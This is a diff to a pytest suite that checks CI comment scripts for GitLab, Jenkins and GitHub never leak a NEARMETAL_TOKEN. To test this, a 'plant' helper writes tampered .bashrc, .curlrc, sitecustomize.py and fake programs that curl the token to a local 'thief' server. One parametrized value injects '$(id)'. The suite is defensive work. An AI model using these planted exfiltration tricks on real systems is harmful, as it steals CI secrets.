@@ -404,10 +404,24 @@ def test_settings_that_would_lose_results_are_bad_usage(tmp_path, name, wrong):
     )
 
 
+def callers(url: str) -> list[tuple[bytes, bytes]]:
+    """Command line and environment of each curl that calls this address: what a process of the same user can read."""
+    found = []
+    for process in Path("/proc").glob("[0-9]*"):
+        try:
+            line = (process / "cmdline").read_bytes()
+            if line.startswith(b"curl\0") and url.encode() in line:
+                found.append((line, (process / "environ").read_bytes()))
+        except OSError:
+            continue  # it has ended, or is somebody else's
+    return found
+
+
 class Forge(http.server.BaseHTTPRequestHandler):
     """Keeps what was posted."""
 
     def do_POST(self):
+        self.server.callers += callers(f":{self.server.server_port}/")
         self.server.posts.append(
             (self.path, self.headers, self.rfile.read(int(self.headers["Content-Length"])).decode())
         )
@@ -418,25 +432,23 @@ class Forge(http.server.BaseHTTPRequestHandler):
         pass
 
 
-@pytest.fixture
-def forge():
-    server = http.server.HTTPServer(("127.0.0.1", 0), Forge)
-    server.posts = []
+def serve():
+    server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), Forge)
+    server.posts, server.callers = [], []
     threading.Thread(target=server.serve_forever, args=[0.01], daemon=True).start()
     yield server
     server.shutdown()
     server.server_close()
 
 
-@pytest.mark.skipif(not shutil.which("curl"), reason="needs curl")
-@pytest.mark.parametrize("vendor", ["gitlab", "jenkins"])
-@pytest.mark.parametrize("verdict", ['| tcp | +12 % | "`$(id)`" & Größe @file |\n', None])
-def test_the_comment_is_the_markdown_and_never_shows_the_token(tmp_path, forge, vendor, verdict):
-    if verdict:
-        (tmp_path / "campaign").mkdir()
-        (tmp_path / "campaign" / "gate.md").write_text(verdict)
+forge = pytest.fixture(serve, name="forge")
+thief = pytest.fixture(serve, name="thief")
+
+
+def of_a_comment(forge) -> dict[str, str]:
+    """What the vendors set for the step that comments."""
     url = f"http://127.0.0.1:{forge.server_port}"
-    environment = {
+    return {
         "PATH": os.environ["PATH"],
         "NEARMETAL_TOKEN": "secret",
         "CI_API_V4_URL": f"{url}/api/v4",
@@ -450,17 +462,30 @@ def test_the_comment_is_the_markdown_and_never_shows_the_token(tmp_path, forge, 
         "LC_ALL": "C.UTF-8",
         "no_proxy": "127.0.0.1",
     }
-    script = gitlab_script("comment") if vendor == "gitlab" else jenkins_steps()[""]
-    done = subprocess.run(
+
+
+def comment(vendor: str, workspace: Path, environment: dict) -> subprocess.CompletedProcess:
+    """The vendor's own lines, with a workspace that holds what the campaign kept."""
+    return subprocess.run(
         ["bash", "-eo", "pipefail"],
-        input=script,
+        input=gitlab_script("comment") if vendor == "gitlab" else jenkins_steps()[""],
         text=True,
-        cwd=tmp_path,
+        cwd=workspace,
         env=environment,
         stdout=subprocess.PIPE,
         stderr=subprocess.STDOUT,
         timeout=60,
     )
+
+
+@pytest.mark.skipif(not shutil.which("curl"), reason="needs curl")
+@pytest.mark.parametrize("vendor", ["gitlab", "jenkins"])
+@pytest.mark.parametrize("verdict", ['| tcp | +12 % | "`$(id)`" & Größe @file |\n', None])
+def test_the_comment_is_the_markdown_and_never_shows_the_token(tmp_path, forge, vendor, verdict):
+    if verdict:
+        (tmp_path / "campaign").mkdir()
+        (tmp_path / "campaign" / "gate.md").write_text(verdict)
+    done = comment(vendor, tmp_path, of_a_comment(forge))
     assert (done.returncode, "secret" in done.stdout) == (0, False), done.stdout
     ((path, headers, text),) = forge.posts
     assert path == "/api/v4/projects/5/merge_requests/7/notes"
@@ -470,3 +495,144 @@ def test_the_comment_is_the_markdown_and_never_shows_the_token(tmp_path, forge, 
         token, body = headers["Authorization"].removeprefix("Bearer "), json.loads(text)["body"]
     assert token == "secret"
     assert body == verdict if verdict else "https://the/log" in body
+
+
+def plant(
+    home: Path, workspace: Path, thief, programs=("curl", "python3", "cat", "id", "mktemp")
+) -> dict:
+    """What a change's code can leave behind: files in its user's home and workspace, and variables of the shell."""
+    url = f"http://127.0.0.1:{thief.server_port}"
+    steal = f'/usr/bin/curl -q -s --data "stolen=$NEARMETAL_TOKEN$(cat)" {url}/program\n'
+    files = {
+        ".curlrc": f'proxy = "{url}"\nnext\nurl = "{url}/curlrc"\ndata = "stolen"\n',
+        ".config/curlrc": f'proxy = "{url}"\n',
+        ".netrc": "default login thief password thief\n",
+        ".gitconfig": "[core]\n    hooksPath = ~/hooks\n[credential]\n    helper = !steal\n",
+        ".config/gh/hosts.yml": "github.com:\n    oauth_token: thief\n",
+        ".config/glab-cli/config.yml": "host: thief\n",
+        ".bashrc": steal,
+        ".bash_profile": steal,
+        ".profile": steal,
+        "sitecustomize.py": f"import urllib.request as u; u.urlopen('{url}/python', b'stolen')\n",
+    }
+    for name, text in files.items():
+        (home / name).parent.mkdir(parents=True, exist_ok=True)
+        (home / name).write_text(text)
+    for directory in (home / "bin", workspace):
+        directory.mkdir(exist_ok=True)
+        for name in programs:
+            (directory / name).write_text(f"#!/bin/sh\n{steal}")
+            (directory / name).chmod(0o755)
+    return {
+        "HOME": str(home),
+        "PATH": f"{home}/bin:.:{os.environ['PATH']}",
+        "CURL_HOME": str(home),
+        "XDG_CONFIG_HOME": str(home / ".config"),
+        "PYTHONPATH": str(home),
+        "ALL_PROXY": url,
+        "http_proxy": url,
+        "GIT_CONFIG_GLOBAL": str(home / ".gitconfig"),
+        "LD_LIBRARY_PATH": str(home),
+    }
+
+
+@pytest.mark.skipif(not shutil.which("curl"), reason="needs curl")
+@pytest.mark.parametrize("vendor", ["gitlab", "jenkins"])
+def test_what_a_change_left_behind_takes_no_part_in_the_comment(tmp_path, forge, thief, vendor):
+    home, workspace = tmp_path / "home", tmp_path / "workspace"
+    (workspace / "campaign").mkdir(parents=True)
+    (workspace / "campaign" / "gate.md").write_text("clean")
+    (workspace / "campaign" / "account").write_text("somebody@elsewhere\n")
+    planted = plant(home, workspace, thief)
+    # The plant bites where nobody takes care.
+    subprocess.run(
+        ["curl", "-s", "-d", "x", f"http://127.0.0.1:{forge.server_port}/"],
+        env={**planted, "PATH": os.environ["PATH"], "no_proxy": "nothing"},
+        capture_output=True,
+    )
+    assert thief.posts and not forge.posts
+    thief.posts.clear()
+    done = comment(vendor, workspace, {**of_a_comment(forge), **planted})
+    assert done.returncode == 0, done.stdout
+    assert (len(forge.posts), thief.posts) == (1, [])
+    assert "secret" not in done.stdout
+
+
+@pytest.mark.skipif(not shutil.which("curl"), reason="needs curl")
+@pytest.mark.parametrize("vendor", ["gitlab", "jenkins"])
+def test_the_process_that_calls_the_forge_shows_no_token(tmp_path, forge, vendor):
+    """Of the shell itself that does not hold: hence a runner of its own, which the next tests ask for."""
+    (tmp_path / "campaign").mkdir()
+    (tmp_path / "campaign" / "gate.md").write_text("clean")
+    done = comment(vendor, tmp_path, {**of_a_comment(forge), "LD_LIBRARY_PATH": str(tmp_path)})
+    assert done.returncode == 0, done.stdout
+    [(line, environment)] = forge.callers
+    assert b"secret" not in line and b"secret" not in environment
+    names = {variable.partition(b"=")[0] for variable in environment.split(b"\0") if variable}
+    assert names == {b"HOME", b"PATH", b"https_proxy", b"no_proxy"}
+
+
+@pytest.mark.parametrize("vendor", ["gitlab", "jenkins"])
+def test_the_user_that_ran_the_change_does_not_comment(tmp_path, forge, vendor):
+    (tmp_path / "campaign").mkdir()
+    subprocess.run(
+        ["bash"],
+        input=next(
+            line
+            for line in scripts()[
+                f"{vendor} Install" if vendor == "jenkins" else "gitlab .campaign"
+            ].splitlines()
+            if "campaign/account" in line
+        ),
+        text=True,
+        cwd=tmp_path,
+        check=True,
+    )
+    done = comment(vendor, tmp_path, of_a_comment(forge))
+    assert done.returncode == 1 and "another" in done.stdout and "nearmetal-comment" in done.stdout
+    assert forge.posts == []
+
+
+@pytest.mark.parametrize("vendor", ["gitlab", "jenkins", "github"])
+@pytest.mark.parametrize("link", ["campaign", "campaign/gate.md"])
+def test_a_link_instead_of_the_verdict_is_not_read(tmp_path, forge, vendor, link):
+    (tmp_path / "private").mkdir()
+    (tmp_path / "private" / "gate.md").write_text("of the runner's user")
+    if link == "campaign":
+        (tmp_path / link).symlink_to("private")
+    else:
+        (tmp_path / "campaign").mkdir()
+        (tmp_path / link).symlink_to(tmp_path / "private" / "gate.md")
+    if vendor == "github":
+        done = subprocess.run(
+            ["bash", "-eo", "pipefail"],
+            input=github_steps("comment")["Comment on the pull request"],
+            text=True,
+            cwd=tmp_path,
+            env={"PATH": os.environ["PATH"], "RUN": "https://the/log"},
+            stdout=subprocess.PIPE,
+            stderr=subprocess.STDOUT,
+        )
+        assert not (tmp_path / "comment.md").exists()
+    else:
+        done = comment(vendor, tmp_path, of_a_comment(forge))
+    assert done.returncode == 1 and "link" in done.stdout
+    assert forge.posts == []
+    assert (tmp_path / "private" / "gate.md").exists()
+
+
+def test_the_token_is_only_where_no_code_of_a_change_ran():
+    document = yaml.load(GITLAB.read_text(), GitLabLoader)
+    jobs = expanded()
+    runs_changes = {tag for name in ("nightly", "change") for tag in jobs[name]["tags"]}
+    assert not runs_changes & set(document["comment"]["tags"]) and document["comment"]["tags"]
+    assert document["comment"]["variables"]["GIT_STRATEGY"] == "none"
+    github = yaml.safe_load(GITHUB.read_text())["jobs"]
+    assert github["comment"]["runs-on"] == "ubuntu-latest"
+    assert "write" not in github["campaign"]["permissions"].values()
+    assert not [step for step in github["comment"]["steps"] if "checkout" in step.get("uses", "")]
+    jenkins = re.sub(r"^\s*//.*", "", JENKINS.read_text(), flags=re.MULTILINE)
+    before, node, after = jenkins.partition("node('nearmetal-comment') {")
+    assert node and "withCredentials" in after
+    assert "withCredentials" not in before and "NEARMETAL_TOKEN" not in before
+    assert re.findall(r"agent \{ label '(.*?)' \}", jenkins) == ["nearmetal"]
